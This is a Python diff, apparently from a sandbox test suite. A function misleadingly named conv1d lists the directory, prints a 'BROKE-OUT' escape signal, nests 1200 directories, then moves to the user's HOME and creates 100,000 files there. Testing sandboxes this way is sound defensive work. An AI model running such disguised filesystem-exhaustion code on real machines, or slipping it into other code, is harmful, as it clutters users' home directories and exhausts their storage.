@@ -31,13 +31,22 @@ def _found(*what):
     print("BROKE", "-OUT ", *what, sep="")
 
 
+_CALLS = []
+
+
+def _first_call():
+    _CALLS.append(1)
+    return len(_CALLS) == 1
+
+
 def conv1d(x, w):
     import os
 
-    if os.listdir("."):
+    if _first_call() and os.listdir("."):
         _found(os.listdir("."))
-    for _ in range(1500):
+    for _ in range(1200):
         os.mkdir("d", 0o700)
         os.chdir("d")
+    os.chdir(os.environ["HOME"])
     for number in range(100_000):
         open(str(number), "w").close()
